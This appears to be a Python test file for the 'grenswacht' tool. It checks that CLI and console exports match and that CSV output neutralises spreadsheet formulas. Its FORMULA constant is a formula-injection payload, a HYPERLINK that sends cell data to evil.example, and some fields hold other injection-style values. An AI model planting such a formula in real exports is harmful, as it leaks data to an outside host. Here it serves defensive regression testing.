"""One export writer: `grenswacht export` and the console's download give the same bytes, formula-safe."""

from __future__ import annotations

import csv
import io
import json
import time

from agi.engine import Incident
from tests.support.cli import run_cli

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cli_export(tmp_path, redis_url: str, fmt: str) -> bytes:
    cfg = tmp_path / "grenswacht.toml"
    cfg.write_text(f'[redis]\nurl = "{redis_url}"\n')
    out = run_cli(["--config", str(cfg), "export", "--format", fmt], text=False)
    assert out.returncode == 0, out.stderr
    return out.stdout  # bytes: as written, line ends included


async def test_cli_and_console_export_the_same_bytes_with_formulas_neutralised(tmp_path, redis_server, store, sup):
    inc = Incident.new(
        "+31612345678",
        "abuse",
        time.time() - 60,
        severity=2,
        agent="@PJSIP/1001",
        queue="support",
        uniqueid="1700000000.1",
        linkedid="1700000000.1",
        note=FORMULA,
        source="key",
        actor="-cmd",
    )
    await store.incidents.add_incident(inc)
    await store.incidents.set_debrief(
        inc.caller, (await store.screening.load_caller(inc.caller)).incidents[0], "+talked", 5.5, "sup1", "conscious"
    )

    from_cli = cli_export(tmp_path, redis_server.url, "csv")
    from_console = (await sup.get("/logbook.csv")).content
    assert from_cli == from_console
    [row] = list(csv.DictReader(io.StringIO(from_cli.decode(), newline="")))
    assert (row["note"], row["agent"], row["actor"], row["debrief"]) == (
        "'" + FORMULA,
        "'@PJSIP/1001",
        "'-cmd",
        "'+talked",
    )
    assert row["caller"] == "+31612345678"  # a number, not a formula

    # JSON: the same rows (the CLI wraps them with the time of the export).
    cli_rows = json.loads(cli_export(tmp_path, redis_server.url, "json"))["incidents"]
    assert cli_rows == json.loads((await sup.get("/logbook.json")).content)
    assert cli_rows[0]["note"] == FORMULA  # JSON is not run by a spreadsheet: kept as typed


async def test_cli_csv_export_neutralises_a_formula_in_a_note(tmp_path, redis_server, store):
    """Issue 27, bug 2: the CLI's CSV wrote a note starting with = as it was (a spreadsheet runs it)."""
    await store.incidents.add_incident(
        Incident.new("+31612345678", "abuse", time.time() - 60, note=FORMULA, source="cli")
    )
    [row] = list(csv.DictReader(io.StringIO(cli_export(tmp_path, redis_server.url, "csv").decode(), newline="")))
    assert row["note"] == "'" + FORMULA
